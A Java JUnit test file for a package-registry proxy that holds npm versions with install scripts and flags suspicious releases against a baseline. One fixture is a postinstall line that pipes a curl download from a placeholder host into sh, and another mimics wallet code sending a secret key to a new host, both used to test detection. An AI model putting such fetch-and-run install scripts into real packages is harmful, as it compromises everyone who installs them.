package dev.warden.proxy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;

import dev.warden.storage.Upstreams.IngestedVersion;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;

/** Install scripts, the release review, and one ingest at a time per version. */
class PolicyIngestTest {

    /** Inert: a script that would fetch and run, from a host under .invalid; never executed. */
    private static final String FETCH_AND_RUN =
            "\"postinstall\":\"curl -s https://cdn.example.invalid/x.sh | sh\"";

    /** Inert: code that keeps a private key and names a host under .invalid (a wallet library). */
    private static final String KEYS =
            "const { Keypair } = require('./keypair');\n"
                    + "function fromSecretKey(secretKey) {\n"
                    + "  return new Keypair(secretKey);\n"
                    + "}\n"
                    + "async function rpc(body) {\n"
                    + "  return fetch('https://api.mainnet.invalid', { method: 'POST', body });\n"
                    + "}\n";

    @TempDir Path dir;

    private Instant daysAgo(Fixture f, int days) {
        return f.clock.instant().minus(Duration.ofDays(days));
    }

    @Test
    void installScriptsAreHeldWhenDenied() throws Exception {
        try (Fixture f =
                new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("esbuild"))) {
            f.up.publish(
                    "native",
                    "1.0.0",
                    Tgz.of("native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("native", "1.0.0");

            assertThat(row.state()).isEqualTo("held");
            assertThat(row.reason())
                    .isEqualTo(
                            "install scripts are not allowed: native@1.0.0 runs its package.json or"
                                + " binding.gyp in the tarball (proxy.install_scripts_allow lists"
                                + " the packages that may)");
        }
    }

    @Test
    void installScriptsTheManifestHidesAreFoundInTheTarball() throws Exception {
        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
            // The packument's manifest names no scripts; the tarball's binding.gyp runs node-gyp.
            f.up.publish(
                    "native",
                    "1.0.0",
                    Tgz.of("native", "1.0.0").file("binding.gyp", "{}").bytes(),
                    daysAgo(f, 3));

            assertThat(f.holds("native")).isEmpty();
            assertThat(f.ingest("native", "1.0.0").reason())
                    .startsWith("install scripts are not allowed");
        }
    }

    @Test
    void theManifestsScriptsAreHeldFromThePackument() throws Exception {
        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
            f.up.publish("native", "1.0.0", Tgz.of("native", "1.0.0").bytes(), daysAgo(f, 3));
            f.up.edit(
                    "native", "1.0.0", v -> v.putObject("scripts").put("postinstall", "node x.js"));

            assertThat(f.holds("native").get("1.0.0"))
                    .isEqualTo(
                            "install scripts are not allowed: native@1.0.0 runs postinstall"
                                    + " (proxy.install_scripts_allow lists the packages that may)");
        }
    }

    @Test
    void aPackageJsonTooLargeToReadCountsAsRunningScriptsWhenDenied() throws Exception {
        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
            // A postinstall padded past the 8 MiB that is read of a package.json.
            String padded =
                    "{\"name\":\"pad\",\"version\":\"1.0.0\","
                            + "\"scripts\":{\"postinstall\":\"node x.js\"}"
                            + " ".repeat(9 << 20)
                            + "}";
            f.up.publish(
                    "pad",
                    "1.0.0",
                    Tgz.of("pad", "1.0.0").file("package.json", padded).bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("pad", "1.0.0");

            assertThat(row.state()).isEqualTo("held");
            assertThat(row.reason())
                    .isEqualTo(
                            "install scripts are not allowed: pad@1.0.0's tarball cannot be read"
                                    + " for them (its package.json is larger than 8 MiB), so it"
                                    + " counts as running them (proxy.install_scripts_allow lists"
                                    + " the packages that may)");
        }
    }

    @Test
    void aTarballThatDoesNotUnpackCountsAsRunningScriptsWhenDenied() throws Exception {
        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
            f.up.publish(
                    "broken",
                    "1.0.0",
                    "not a gzip stream".getBytes(java.nio.charset.StandardCharsets.UTF_8),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("broken", "1.0.0");

            assertThat(row.state()).isEqualTo("held");
            assertThat(row.reason())
                    .startsWith(
                            "install scripts are not allowed: broken@1.0.0's tarball cannot be"
                                    + " read for them (the tarball cannot be unpacked: ");
        }
    }

    @Test
    void installScriptsOfAnAllowedPackageAreServed() throws Exception {
        try (Fixture f =
                new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("esbuild"))) {
            f.up.publish(
                    "esbuild",
                    "1.0.0",
                    Tgz.of("esbuild", "1.0.0", "\"postinstall\":\"node install.js\"").bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("esbuild", "1.0.0");

            assertThat(row.state()).isEqualTo("served");
            assertThat(f.verified(row).path("verified").path("scripts").asText())
                    .isEqualTo("allowed");
        }
    }

    @Test
    void theAllowListIsMatchedAsTheConfigurationChecksIt() throws Exception {
        // "@acme/**" is a pattern the configuration accepts (NamePatterns).
        try (Fixture f =
                new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("@acme/**"))) {
            f.up.publish(
                    "@acme/native",
                    "1.0.0",
                    Tgz.of("@acme/native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
                    daysAgo(f, 3));
            f.up.publish(
                    "@other/native",
                    "1.0.0",
                    Tgz.of("@other/native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
                    daysAgo(f, 3));

            IngestedVersion allowed = f.ingest("@acme/native", "1.0.0");

            assertThat(allowed.state()).isEqualTo("served");
            assertThat(f.verified(allowed).path("verified").path("scripts").asText())
                    .isEqualTo("allowed");
            assertThat(f.ingest("@other/native", "1.0.0").reason())
                    .startsWith("install scripts are not allowed: @other/native@1.0.0 runs");
        }
    }

    @Test
    void installScriptsAreServedWhenAllowed() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish(
                    "native",
                    "1.0.0",
                    Tgz.of("native", "1.0.0", "\"install\":\"node-gyp rebuild\"").bytes(),
                    daysAgo(f, 3));

            assertThat(f.ingest("native", "1.0.0").state()).isEqualTo("served");
        }
    }

    @Test
    void theReleaseReviewHoldsAVersionThatFetchesAndRunsAtInstall() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish("lib", "1.0.0", Tgz.of("lib", "1.0.0").bytes(), daysAgo(f, 3));
            assertThat(f.ingest("lib", "1.0.0").state()).isEqualTo("served");
            f.up.publish(
                    "lib", "1.0.1", Tgz.of("lib", "1.0.1", FETCH_AND_RUN).bytes(), daysAgo(f, 1));

            IngestedVersion row = f.ingest("lib", "1.0.1");

            assertThat(row.state()).isEqualTo("held");
            assertThat(row.reason())
                    .startsWith("the release review holds it: ")
                    .contains("install-script-fetches-and-runs");
            assertThat(f.verified(row).path("verified").path("review").path("action").asText())
                    .isIn("hold", "quarantine");
        }
    }

    @Test
    void theReviewComparesWithThePreviousVersionFetchedFromTheUplink() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            // 1.0.0 was never asked for through the proxy: its tarball is the review's baseline.
            f.up.publish(
                    "wallet",
                    "1.0.0",
                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 30));
            String more = "function sign(secretKey) { return rpc(secretKey.length); }\n";
            f.up.publish(
                    "wallet",
                    "1.0.1",
                    Tgz.of("wallet", "1.0.1").file("lib.js", KEYS + more).bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("wallet", "1.0.1");

            assertThat(row.reason()).isNull();
            assertThat(row.state()).isEqualTo("served");
            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
                    .isEqualTo("1.0.0");
            assertThat(f.row("wallet", "1.0.0")).isEmpty();
            assertThat(f.eventKinds()).doesNotContain("review.flagged");
        }
    }

    @Test
    void theBaselineIsTheReleaseThisOneFollowsNotAPatchOfAnOldLinePublishedJustBefore()
            throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish(
                    "wallet",
                    "2.0.0",
                    Tgz.of("wallet", "2.0.0").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 30));
            // a patch of the old 1.x line, published after 2.0.0, has none of 2.x's code
            f.up.publish(
                    "wallet",
                    "1.9.9",
                    Tgz.of("wallet", "1.9.9").file("lib.js", "module.exports = 1;\n").bytes(),
                    daysAgo(f, 10));
            f.up.publish(
                    "wallet",
                    "2.0.1",
                    Tgz.of("wallet", "2.0.1").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("wallet", "2.0.1");

            assertThat(row.state()).isEqualTo("served");
            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
                    .isEqualTo("2.0.0");
        }
    }

    @Test
    void aHoldOnlyTheMissingBaselineExplainsIsAFlag() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish(
                    "wallet",
                    "1.0.0",
                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("wallet", "1.0.0");

            assertThat(row.state()).isEqualTo("served");
            JsonNode review = f.verified(row).path("verified").path("review");
            assertThat(review.path("action").asText()).isEqualTo("flag");
            assertThat(review.path("baseline").asText()).isEqualTo("none");
            assertThat(f.events())
                    .anySatisfy(
                            e -> {
                                assertThat(e.kind()).isEqualTo("review.flagged");
                                assertThat(e.detail())
                                        .startsWith("the release review holds it: ")
                                        .contains("secret-sent-to-new-host");
                            });
        }
    }

    @Test
    void aBaselineWhoseBytesAreNotTheOnesItsPackumentNamesIsNone() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish(
                    "wallet",
                    "1.0.0",
                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 30));
            f.up.files.put("/wallet/-/wallet-1.0.0.tgz", Tgz.of("wallet", "1.0.0").bytes());
            f.up.publish(
                    "wallet",
                    "1.0.1",
                    Tgz.of("wallet", "1.0.1").file("lib.js", KEYS).bytes(),
                    daysAgo(f, 3));

            IngestedVersion row = f.ingest("wallet", "1.0.1");

            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
                    .isEqualTo("none");
            assertThat(f.eventKinds()).contains("review.flagged");
        }
    }

    @Test
    void aSecondRequestWaitsForTheFirstIngest() throws Exception {
        try (Fixture f = new Fixture(dir)) {
            f.up.publish("lib", "1.0.0", Tgz.of("lib", "1.0.0").bytes(), daysAgo(f, 3));
            CountDownLatch fetching = new CountDownLatch(1);
            CountDownLatch release = new CountDownLatch(1);
            f.up.onTarball =
                    () -> {
                        fetching.countDown();
                        try {
                            release.await();
                        } catch (InterruptedException e) {
                            Thread.currentThread().interrupt();
                        }
                    };
            ExecutorService pool = Executors.newFixedThreadPool(2);
            try {
                Future<IngestedVersion> first = pool.submit(() -> f.ingest("lib", "1.0.0"));
                fetching.await();
                AtomicReference<Thread> second = new AtomicReference<>();
                Future<IngestedVersion> other =
                        pool.submit(
                                () -> {
                                    second.set(Thread.currentThread());
                                    return f.ingest("lib", "1.0.0");
                                });
                while (second.get() == null || second.get().getState() != Thread.State.WAITING) {
                    Thread.onSpinWait();
                }
                release.countDown();

                assertThat(other.get()).isEqualTo(first.get());
                assertThat(f.up.requestsFor(".tgz")).isEqualTo(1);
                assertThat(f.log.recorded).hasSize(1);
            } finally {
                pool.shutdownNow();
            }
        }
    }
}
